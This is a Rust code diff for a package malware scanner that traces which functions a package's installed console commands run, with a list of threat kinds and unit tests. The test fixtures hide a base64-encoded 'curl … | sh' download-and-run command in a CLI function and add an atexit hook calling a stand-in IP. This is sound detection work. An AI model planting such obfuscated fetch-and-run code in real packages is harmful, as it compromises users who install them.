@@ -175,6 +175,16 @@ pub fn analyze_package(pkg: &Package) -> Analysis {
     let reached = reach::reached(&reach_of, roots, |i, qual| {
         resolve_function(pkg, &index, &facts, i, qual)
     });
+    // What the package's commands run, apart: a function that a top level reaches runs
+    // on import whatever else runs it.
+    let commands = command_functions(pkg, &index, &facts);
+    let commanded = if commands.is_empty() {
+        FxHashMap::default()
+    } else {
+        reach::reached_from(&reach_of, [], &commands, |i, qual| {
+            resolve_function(pkg, &index, &facts, i, qual)
+        })
+    };
 
     for &(i, file, text) in &code {
         let Some(f) = facts.get(&i) else { continue };
@@ -236,21 +246,35 @@ pub fn analyze_package(pkg: &Package) -> Analysis {
             let via = (!raw.top_level && raw.function != reach::TOP)
                 .then(|| reached.get(&(i, raw.function)).map(|_| (i, raw.function)))
                 .flatten();
+            // Run by a command the user types: a threat there runs as surely as on
+            // import; a capability (a process, the network, a read of the user's files,
+            // an autostart entry) may be what the command is for.
+            let commanded_at = (via.is_none()
+                && !raw.top_level
+                && raw.function != reach::TOP
+                && COMMAND_THREATS.contains(&raw.kind))
+            .then(|| commanded.get(&(i, raw.function)).map(|_| (i, raw.function)))
+            .flatten();
             let context = if raw.guarded || maintainer_command(raw) {
                 Context::Runtime
             } else if install.contains(&i) {
                 Context::Install
             } else if !top_runs {
                 Context::Runtime
-            } else if raw.top_level || via.is_some() || file.kind == FileKind::Script {
+            } else if raw.top_level
+                || via.is_some()
+                || commanded_at.is_some()
+                || file.kind == FileKind::Script
+            {
                 Context::Import
             } else {
                 Context::Runtime
             };
-            let via = match (context, via) {
-                (Context::Install | Context::Import, Some(at)) => {
+            let via = match (context, via, commanded_at) {
+                (Context::Install | Context::Import, Some(at), _) => {
                     Some(call_chain(pkg, &facts, &reached, at))
                 }
+                (Context::Import, None, Some(at)) => Some(call_chain(pkg, &facts, &commanded, at)),
                 _ => None,
             };
             let (line, column, snippet) = locate_in(text, &lines, raw.offset);
@@ -298,6 +322,113 @@ fn analyse_files(
             (i, facts)
         })
         .collect()
+}
+
+/// What code run by a package's command must not do whatever the command is for: run
+/// code it decodes, send secrets out, wire a shell to a socket, destroy the user's files,
+/// swap wallet addresses, republish itself. Downloading and running is left out: tools
+/// fetch and run their helpers when asked (ultralytics' `yolo` does, in the benign set).
+const COMMAND_THREATS: &[BehaviourKind] = &[
+    BehaviourKind::DecodeExecute,
+    BehaviourKind::SecretExfiltration,
+    BehaviourKind::ReverseShell,
+    BehaviourKind::Destruction,
+    BehaviourKind::BrowserHijack,
+    BehaviourKind::SelfPropagation,
+];
+
+/// The functions the package's console and GUI scripts run (`name = pkg.cli:main` in
+/// `entry_points.txt`, `setup.cfg` or `[project.scripts]`): each runs whenever the user
+/// runs the command the package installed, as surely as a module's top level runs on
+/// import (an npm `bin` file's top level is judged alike). Found as (file, function).
+fn command_functions(
+    pkg: &Package,
+    index: &HashMap<&str, usize>,
+    facts: &HashMap<usize, Arc<FileFacts>>,
+) -> Vec<(usize, u32)> {
+    let mut out = Vec::new();
+    for f in &pkg.files {
+        let name = f.relative.rsplit('/').next().unwrap_or("");
+        if !matches!(name, "entry_points.txt" | "setup.cfg" | "pyproject.toml") {
+            continue;
+        }
+        let Some(text) = pkg.text(f) else { continue };
+        for (module, function) in script_targets(text) {
+            let path = module.replace('.', "/");
+            let file = [
+                format!("{path}.py"),
+                format!("{path}/__init__.py"),
+                format!("src/{path}.py"),
+                format!("src/{path}/__init__.py"),
+            ]
+            .iter()
+            .find_map(|c| index.get(c.as_str()).copied());
+            let Some(file) = file else { continue };
+            let Some(facts) = facts.get(&file) else {
+                continue;
+            };
+            if let Some(id) = facts
+                .reach
+                .functions
+                .iter()
+                .position(|func| func.name == function)
+                .and_then(|id| u32::try_from(id).ok())
+            {
+                out.push((file, id));
+            }
+            if out.len() >= 64 {
+                return out;
+            }
+        }
+    }
+    out
+}
+
+/// The `module:function` targets of the script sections of a manifest: `[console_scripts]`
+/// and `[gui_scripts]` (entry_points.txt, or setup.cfg's indented `console_scripts =`),
+/// `[project.scripts]` and `[project.gui-scripts]` (pyproject.toml).
+fn script_targets(text: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    // In a scripts section; or under setup.cfg's `console_scripts =` key, whose entries
+    // are indented and end at the next key.
+    let (mut section, mut key_block) = (false, false);
+    for line in text.lines().take(10_000) {
+        let trimmed = line.trim();
+        if trimmed.starts_with('[') {
+            let name = trimmed.trim_matches(|c| c == '[' || c == ']').trim();
+            section = matches!(
+                name,
+                "console_scripts" | "gui_scripts" | "project.scripts" | "project.gui-scripts"
+            );
+            key_block = false;
+            continue;
+        }
+        let Some((key, value)) = trimmed.split_once('=') else {
+            continue;
+        };
+        let key = key.trim();
+        if !line.starts_with([' ', '\t']) && !section {
+            key_block = matches!(key, "console_scripts" | "gui_scripts");
+        }
+        if !(section || key_block) {
+            continue;
+        }
+        let value = value.trim().trim_matches(|c| c == '"' || c == '\'');
+        let target = value.split(['[', ' ']).next().unwrap_or("");
+        let Some((module, function)) = target.split_once(':') else {
+            continue;
+        };
+        let word = |s: &str| {
+            !s.is_empty()
+                && s.split('.').all(|p| {
+                    !p.is_empty() && p.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+                })
+        };
+        if word(module) && word(function) {
+            out.push((module.to_owned(), function.to_owned()));
+        }
+    }
+    out
 }
 
 /// The dotted module paths that the manifests naming Python entry points
@@ -835,6 +966,26 @@ fn call_chain(
                 start = cur.0;
                 break;
             }
+            Some(From::Command) => {
+                // The function itself is what the command runs.
+                steps.pop();
+                steps.reverse();
+                let mut out = format!(
+                    "a command the package installs → {} {}()",
+                    pkg.files[cur.0].path,
+                    name(cur.0, cur.1)
+                );
+                let mut file = cur.0;
+                for (f, n) in steps {
+                    if f == file {
+                        out.push_str(&format!(" → {n}()"));
+                    } else {
+                        out.push_str(&format!(" → {} {n}()", pkg.files[f].path));
+                        file = f;
+                    }
+                }
+                return out;
+            }
         }
     }
     steps.reverse();
@@ -1040,6 +1191,101 @@ mod tests {
             Some(("second-1.0/tools/run.py".into(), 2, Context::Runtime))
         );
         assert_eq!(first.imports, second.imports);
+    }
+
+    #[test]
+    fn a_function_registered_with_atexit_by_decorator_runs_on_import() {
+        let code = "import atexit, urllib.request\n@atexit.register\ndef _bye():\n    urllib.request.urlopen('http://203.0.113.9/bye')\n";
+        let analysis = analyze_package(&package(
+            "bye",
+            &[
+                ("PKG-INFO", "Name: bye\nVersion: 1.0\n"),
+                ("bye/__init__.py", code),
+            ],
+        ));
+        let contexts: Vec<Context> = analysis
+            .behaviours
+            .iter()
+            .filter(|b| b.kind == BehaviourKind::SuspiciousDestination)
+            .map(|b| b.context)
+            .collect();
+        assert!(
+            !contexts.is_empty() && contexts.iter().all(|c| *c == Context::Import),
+            "{:?}",
+            analysis.behaviours
+        );
+    }
+
+    #[test]
+    fn a_console_script_runs_its_function_and_what_it_calls() {
+        let cli = "import base64, subprocess\n\ndef _update():\n    subprocess.run(base64.b64decode('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvdSB8IHNo').decode(), shell=True)\n\ndef _save(path):\n    open(path, 'w').write('x')\n\ndef main():\n    _update()\n    _save('/tmp/out')\n";
+        let files = [
+            ("PKG-INFO", "Name: tool\nVersion: 1.0\n"),
+            (
+                "tool.egg-info/entry_points.txt",
+                "[console_scripts]\ntool = tool.cli:main\n",
+            ),
+            ("tool/__init__.py", ""),
+            ("tool/cli.py", cli),
+        ];
+        let analysis = analyze_package(&package("tool", &files));
+        let decoded: Vec<(Context, Option<String>)> = analysis
+            .behaviours
+            .iter()
+            .filter(|b| b.kind == BehaviourKind::DecodeExecute)
+            .map(|b| (b.context, b.via.clone()))
+            .collect();
+        assert!(
+            decoded.iter().any(|(c, via)| *c == Context::Import
+                && via
+                    .as_deref()
+                    .is_some_and(|v| v.contains("a command the package installs")
+                        && v.contains("main() → _update()"))),
+            "{:?}",
+            analysis.behaviours
+        );
+        // A capability the command may be for stays what it was: the process it starts
+        // is not an import-time process.
+        assert!(
+            analysis
+                .behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::ProcessSpawn)
+                .all(|b| b.context == Context::Runtime),
+            "{:?}",
+            analysis.behaviours
+        );
+        // Without the entry point the same function runs only when called.
+        let quiet = analyze_package(&package("tool", &[files[0], files[2], files[3]]));
+        assert!(
+            quiet
+                .behaviours
+                .iter()
+                .filter(|b| b.kind == BehaviourKind::DecodeExecute)
+                .all(|b| b.context == Context::Runtime),
+            "{:?}",
+            quiet.behaviours
+        );
+    }
+
+    #[test]
+    fn script_targets_of_the_manifests() {
+        assert_eq!(
+            script_targets("[console_scripts]\nx = a.b:main [extra]\n[other]\ny = c:d\n"),
+            vec![("a.b".to_owned(), "main".to_owned())]
+        );
+        assert_eq!(
+            script_targets(
+                "[project.scripts]\nx = \"pkg.cli:run\"\n[project.urls]\nh = \"https://x.invalid/a:b\"\n"
+            ),
+            vec![("pkg.cli".to_owned(), "run".to_owned())]
+        );
+        assert_eq!(
+            script_targets(
+                "[options.entry_points]\nconsole_scripts =\n    tool = pkg.main:cli\nmy.plugins =\n    p = pkg.plug:hook\n"
+            ),
+            vec![("pkg.main".to_owned(), "cli".to_owned())]
+        );
     }
 
     #[test]
